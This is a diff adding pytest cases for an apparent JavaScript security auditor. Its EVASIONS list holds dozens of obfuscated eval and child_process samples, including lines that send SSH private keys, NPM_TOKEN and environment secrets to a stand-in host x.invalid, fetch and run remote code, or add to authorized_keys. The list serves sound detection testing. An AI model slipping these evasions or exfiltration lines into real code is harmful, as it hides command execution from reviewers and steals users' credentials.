@@ -148,3 +148,125 @@ def test_a_comment_that_is_never_closed_is_incomplete() -> None:
 def test_hostile_tokens_neither_crash_nor_stall(source: str) -> None:
     report = audit(source)
     assert not any("failed" in entry.reason or "out of time" in entry.reason for entry in report.ledger)
+
+
+EVASIONS = [
+    "this['ev'+'al'](input)",
+    "(function(){return this})()['eval'](input)",
+    "(()=>{}).constructor(input)()",
+    "(async()=>{}).constructor(input)()",
+    "class A{ #run(c){require('child_process').exec(c)} go(x){ this.#run(x) } }",
+    "const cp=require('child_process'); function run(c){return cp.execSync(c)} run(process.argv[2])",
+    "const d=s=>Buffer.from(s,'base64').toString(); require(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')](input)",
+    "eval([97,108,101,114,116].map(c=>String.fromCharCode(c)).join('')+x)",
+    "const k=[1,2,3].map(c=>String.fromCharCode(c^96)).join(''); globalThis['ev'+k[0]+'l'](input)",
+    "Function(String.fromCharCode.apply(null,[97,108]))()",
+    "eval(String.fromCharCode(...[97,108,101]))",
+    "let n='ev'; n+='al'; globalThis[n](input)",
+    "const o={run:require('child_process').exec}; o['r'+'un'](input)",
+    "class A{ cp=require('child_process'); go(x){ this.cp.exec(x) } }",
+    "class A{ constructor(){ this.cp=require('child_process') } go(x){ this.cp.exec(x) } }",
+    "import('child_process').then(({exec})=>exec(input))",
+    "const {exec:e}=await import('node:child_process'); e(input)",
+    "['child_process'].forEach(m=>require(m).exec(input))",
+    "for (const f of [require('child_process').exec]) f(input)",
+    "function go(c, r=require('child_process')){ r.exec(c) } go(input)",
+    "function go(f,x){ f(x) } go(eval, input)",
+    "require('child_process').exec.call(null, input)",
+    "require('child_process').exec.apply(null, [input])",
+    "const r=require('child_process').exec.bind(null); r(input)",
+    "Reflect.get(globalThis,'eval')(input)",
+    "Reflect.apply(require('child_process').exec,null,[input])",
+    "const {Function:F}=globalThis; new F(input)()",
+    "process.mainModule.require('child_process').execSync(input)",
+    "(cond?eval:null)(input)",
+    "(null||eval)(input)",
+    "(0,globalThis.eval)(input)",
+    "let r; (r=eval)(input)",
+    "import('child_'+`process`).then(m=>m.exec(input))",
+    "setTimeout(`go(${x})`,1)",
+    "const t=setTimeout; t('go('+x+')')",
+    "eval(require('zlib').inflateSync(Buffer.from(x,'base64')).toString())",
+    "const d=require('fs').readFileSync('/root/.ssh/id_rsa');require('https').request({hostname:'x.invalid'}).end(d)",
+    "class S{constructor(k){this.k=k} go(){fetch('http://x.invalid',{body:this.k})}}; new S(process.env.X_TOKEN).go()",
+    "const e={...process.env}; fetch('http://x.invalid',{method:'POST',body:JSON.stringify(e)})",
+    "let b=''; for (const [k,v] of Object.entries(process.env)) b+=k+v; require('https').get('http://x.invalid/?'+b)",
+    "require('dns').lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex')+'.example.invalid')",
+    "require('child_process').execSync(`curl -d ${process.env.NPM_TOKEN} http://x.invalid`)",
+    "require('child_process').spawn('curl',['-d',process.env.NPM_TOKEN,'http://x.invalid'])",
+    "const o=require('os'),p=require('path');require('fs').appendFileSync(p.join(o.homedir(),'.ssh/authorized_keys'),k)",
+    "import vm from 'node:vm'; new vm.Script(input).runInThisContext()",
+    "const o={get e(){return eval}}; o.e(input)",
+    "const p=new Proxy(eval,{}); p(input)",
+    "fetch('http://x.invalid/x').then(r=>r.text()).then(t=>eval(t))",
+    "const axios=require('axios'); axios.get('http://x.invalid').then(({data})=>new Function(data)())",
+    "globalThis?.['eval']?.(input)",
+    "globalThis['\\x65val'](input); ",
+    "\\u{65}val(input)",
+    "<!-- hi\neval(input)\n-->",
+    "const a=['exec','child_process']; require(a[1])[a[0]](input)",
+    "const a=['exec','child_process']; const f=i=>a[i]; require(f(1))[f(0)](input)",
+    "function h(s){return s.replace(/../g,c=>String.fromCharCode(parseInt(c,16)))} eval(h('6162')+x)",
+    "globalThis['lave'.split('').reverse().join('')](input)",
+    "let s='';for(const c of [101,118,97,108]) s+=String.fromCharCode(c); globalThis[s](input)",
+    "const {promisify:p}=require('util');const e=p(require('child_process').exec);async function f(c){await e(c)};f(x)",
+    "import {$} from 'execa'; await $({shell:true})(input)",
+    "const {spawn}=require('child_process');const o={shell:true};spawn(input,[],o)",
+    "const {spawn}=require('child_process');spawn('sh',['-c',input])",
+    "const {spawnSync:s}=require('child_process');const a=['-c'];a.push(input);s('bash',a)",
+    "export default { run: (c)=>require('child_process').execSync(c) }",
+    "await Bun.$`${input}`",
+    "new Deno.Command('sh',{args:['-c',input]}).spawn()",
+    "import {promises as fs} from 'fs'; const k=await fs.readFile(`${process.env.HOME}/.ssh/id_ed25519`); await fetch('http://x.invalid',{body:k})",
+    "process.stdin.on('data',d=>eval(d.toString()))",
+    "const m=new Map([['e',eval]]); m.get('e')(input)",
+    "const [a,b]=[1,eval]; b(input)",
+    "const {a:{b}}={a:{b:eval}}; b(input)",
+    "function g(){return eval} g()(input)",
+    "function g(){return {x:eval}} g().x(input)",
+    "(function(r){r('child_process').exec(input)})(require)",
+    "(function(){arguments[0](input)})(eval)",
+    "((...a)=>a[0](input))(eval)",
+    "try{require('x')}catch{require('child_process').exec(input)}",
+]
+
+
+@pytest.mark.parametrize("source", EVASIONS)
+def test_indirection_does_not_hide_what_runs_or_leaves(source: str) -> None:
+    assert audit(source).verdict is Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "const w = process.platform === 'win32' ? 'where git' : 'which git';\nrequire('child_process').execSync(w);\n",
+        "const { execSync } = require('child_process');\nfor (const c of ['git status', 'ls']) execSync(c);\n",
+        "const cp = require('child_process');\nconst sh = (c) => cp.execSync(c);\nsh('git status');\nsh('ls');\n",
+        "const c = require('child_process');\nclass A { #g(x) { c.execSync(`git ${x}`); } h() { this.#g('log'); } }\n",
+    ],
+)
+def test_commands_that_the_file_itself_decides_are_judged_as_what_they_are(source: str) -> None:
+    assert alarms(audit(source)) == []
+
+
+def test_a_wrapper_with_one_open_caller_is_judged_by_it() -> None:
+    fixed = (
+        "const { execSync } = require('child_process');\nfunction git(c) { return execSync(c); }\ngit('git status');\n"
+    )
+    assert "javascript-shell-command" not in found(fixed)
+    assert "javascript-shell-command" in found(fixed + "git(process.argv[2]);\n")
+    assert "javascript-shell-command" in found(fixed + "module.exports = { git };\n")
+
+
+def test_an_answer_from_the_network_is_not_the_secret_that_was_sent_for_it() -> None:
+    source = (
+        "const key = process.env.A_TOKEN;\nconst r = await fetch('https://a.example.invalid', { headers: { key } });\n"
+        "await fetch('https://b.example.invalid', { body: await r.text() });\n"
+    )
+    sent = [f.location.line for f in audit(source).findings if f.rule == "code-credential-sent"]
+    assert sent == [2]
+
+
+def test_code_that_does_not_parse_is_judged_in_part_and_said_to_be_incomplete() -> None:
+    rules = found("eval(input);\n}} ((\nconst k = process.env.A_TOKEN;\n")
+    assert {"javascript-eval", "code-credential-env", "audit-incomplete"} <= rules.keys()
